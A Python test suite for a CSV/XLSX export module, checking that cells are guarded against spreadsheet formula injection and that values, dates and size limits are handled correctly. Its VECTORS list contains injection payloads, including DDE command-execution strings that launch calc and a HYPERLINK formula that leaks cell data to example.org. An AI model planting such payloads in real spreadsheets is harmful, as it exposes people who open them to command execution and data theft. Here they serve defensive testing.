"""Cells of CSV and XLSX files: no spreadsheet runs them, and whoever reads them has it all."""

import csv
import io
import tempfile
from datetime import UTC, date, datetime, time
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from public.sheets import (
    LONGEST_TEXT,
    NOT_XML,
    DoesNotFit,
    Sheet,
    as_text,
    csv_lines,
    guard,
    unguard,
    write_xlsx,
)

# What spreadsheets take for formulas: each as somebody might type it into a title.
VECTORS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\tanything",
    "\r=1+1",
    "\ranything",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\u00ad\u2060=1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "\x01\x02=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?leak="&A1,"Error: click here")',
    '=DDE("cmd";"/C calc";"!A0")',
    "'=1+1",
    "''=1+1",
]
PLAIN = [
    "",
    "A title",
    "'tis",
    "1 = 1",
    "a-b",
    "it's = that",
    "'quoted'",
    "État",
    "Қазақстан",
    "7;15",
]
READABLE = ["+41 22 917 1234", "-5", "-", "– a list", "@reviewhub"]


def xlsx_of(*rows, header=("text",)) -> io.BytesIO:
    file = io.BytesIO()
    write_xlsx(file, [Sheet("Records", header, rows)])
    file.seek(0)
    return file


def cells_of(file) -> list[list]:
    return [list(row) for row in load_workbook(file).active.iter_rows(min_row=2)]


def rows_of_csv(*rows, **options) -> list[list[str]]:
    text = "".join(csv_lines(["text"], rows, **options))
    return list(csv.reader(io.StringIO(text, newline="")))


# --- Formulas -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", VECTORS)
def test_formula_is_guarded_in_csv_and_read_again_as_it_was(text):
    [_header, [cell]] = rows_of_csv([text], bom=False)

    assert cell[0] == "'"
    assert unguard(cell) == NOT_XML.sub("", text)


@pytest.mark.parametrize("text", VECTORS + PLAIN[1:] + READABLE + ["#N/A", "#REF!"])
def test_text_is_a_text_in_xlsx_and_read_again_as_it_was(text):
    [[cell]] = cells_of(xlsx_of([text]))

    assert cell.data_type == "s"
    assert unguard(cell.value) == NOT_XML.sub("", text).replace("\r", "\n")


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text):
    assert (guard(text), unguard(text)) == (text, text)


@pytest.mark.parametrize("text", READABLE)
def test_telephone_numbers_and_dashes_stay_readable(text):
    assert guard(text) in (text, f"'{text}")
    assert unguard(guard(text)) == text


UNTIDY = st.text(
    st.sampled_from("'=+-@＝＋－＠ \t\r\n\x01\ufeff\u200b\xa0a1") | st.characters(codec="utf-8")
)


@given(UNTIDY)
def test_any_text_is_read_again_as_it_was(text):
    assert unguard(guard(text)) == text


@given(UNTIDY, UNTIDY)
def test_two_texts_never_make_the_same_cell(one, other):
    assert (guard(one) == guard(other)) == (one == other)


@given(UNTIDY)
def test_no_cell_begins_as_a_formula(text):
    first = as_text(text).lstrip("\ufeff\u200b\xa0 \n\x01")[:1]

    assert first not in tuple("=+-@＝＋－＠\t\r")


@given(st.lists(st.tuples(UNTIDY, UNTIDY), max_size=4))
def test_csv_gives_back_every_row(rows):
    text = "".join(csv_lines(["a", "b"], rows))
    _header, *read = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))

    expected = [[NOT_XML.sub("", cell) for cell in row] for row in rows]
    assert [[unguard(cell) for cell in row] for row in read] == expected


@given(st.lists(UNTIDY | st.text(st.sampled_from('",;\r\n a')), min_size=1, max_size=4))
def test_csv_is_written_as_python_writes_it(cells):
    theirs = io.StringIO()
    csv.writer(theirs, lineterminator="\r\n").writerows([["a"], map(as_text, cells)])

    assert "".join(csv_lines(["a"], [cells], bom=False)) == theirs.getvalue()


# --- Numbers, dates and the rest --------------------------------------------------------------


def test_numbers_and_dates_are_written_as_such():
    values = [7, -5, 2.5, Decimal("-1.50"), date(2024, 3, 11), time(9, 30), None, True]

    [cells] = cells_of(xlsx_of(values, header="abcdefgh"))

    assert [(cell.data_type, cell.value) for cell in cells] == [
        ("n", 7),
        ("n", -5),
        ("n", 2.5),
        ("n", -1.5),
        ("d", datetime(2024, 3, 11)),
        ("d", time(9, 30)),
        ("n", None),
        ("s", "true"),
    ]
    assert [as_text(value) for value in values] == [
        "7",
        "-5",
        "2.5",
        "-1.50",
        "2024-03-11",
        "09:30",
        "",
        "true",
    ]


def test_what_excel_has_no_number_for_is_a_text():
    values = [datetime(2024, 3, 11, 9, tzinfo=UTC), date(1648, 10, 24), float("inf")]

    [cells] = cells_of(xlsx_of(values, header="abc"))

    assert [cell.value for cell in cells] == ["2024-03-11T09:00:00+00:00", "1648-10-24", "inf"]


def test_characters_that_xml_cannot_hold_are_left_out():
    [[cell]] = cells_of(xlsx_of(["a\x00b\x0bc\ufffed\ud800e\tf"]))

    assert cell.value == "abcde\tf"


def test_csv_begins_with_its_mark_and_ends_its_lines_as_rfc_4180_says():
    lines = "".join(csv_lines(["code", "title"], [["P-0001", 'He said "no", twice']]))

    assert lines == '\ufeffcode,title\r\nP-0001,"He said ""no"", twice"\r\n'


def test_csv_comes_in_blocks_as_its_rows_do():
    taken = []

    def rows():
        for number in range(10_000):
            taken.append(number)
            yield [number, "a text of some length"]

    first = next(csv_lines(["number", "text"], rows()))

    assert 0 < len(taken) < 5_000
    assert first.endswith("\r\n")


def test_header_is_guarded_too():
    file = xlsx_of(["x"], header=["=1+1"])

    assert load_workbook(file).active["A1"].value == "'=1+1"


# --- Workbooks --------------------------------------------------------------------------------


def test_same_rows_make_the_same_bytes():
    rows = ["one", 2, date(2024, 3, 11)]

    assert xlsx_of(rows, header="abc").getvalue() == xlsx_of(rows, header="abc").getvalue()


def test_sheets_have_names_that_excel_takes():
    file = io.BytesIO()
    write_xlsx(file, [Sheet(name, ["a"], []) for name in ("a/b: [c]?*", "x" * 40, "'")])

    assert load_workbook(file).sheetnames == ["a b   c", "x" * 31, "1"]


@pytest.mark.parametrize("text", ["x" * LONGEST_TEXT, "😀" * (LONGEST_TEXT // 2)])
def test_longest_text_fits(text):
    [[cell]] = cells_of(xlsx_of([text]))

    assert cell.value == text


@pytest.mark.parametrize("text", ["x" * (LONGEST_TEXT + 1), "😀" * 16_384, "=" * LONGEST_TEXT])
def test_longer_text_is_refused_and_never_cut(text):
    with pytest.raises(DoesNotFit) as refusal:
        xlsx_of(["short"], [text])

    assert str(refusal.value) == (
        "A cell of XLSX holds 32,767 characters; “text” of row 3 is longer."
        " Choose CSV, or leave this column out."
    )


def test_sheet_has_as_many_rows_as_excel_takes(monkeypatch):
    monkeypatch.setattr("public.sheets.MOST_ROWS", 3)

    assert len(cells_of(xlsx_of(["one"], ["two"]))) == 2
    with pytest.raises(DoesNotFit, match="An XLSX sheet holds 2 rows"):
        xlsx_of(["one"], ["two"], ["three"])


def test_writing_that_fails_leaves_no_file_behind(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows():
        yield ["one"]
        raise ConnectionError

    with pytest.raises(ConnectionError):
        write_xlsx(io.BytesIO(), [Sheet("First", ["a"], [["x"]]), Sheet("Second", ["a"], rows())])

    assert list(Path(tmp_path).iterdir()) == []
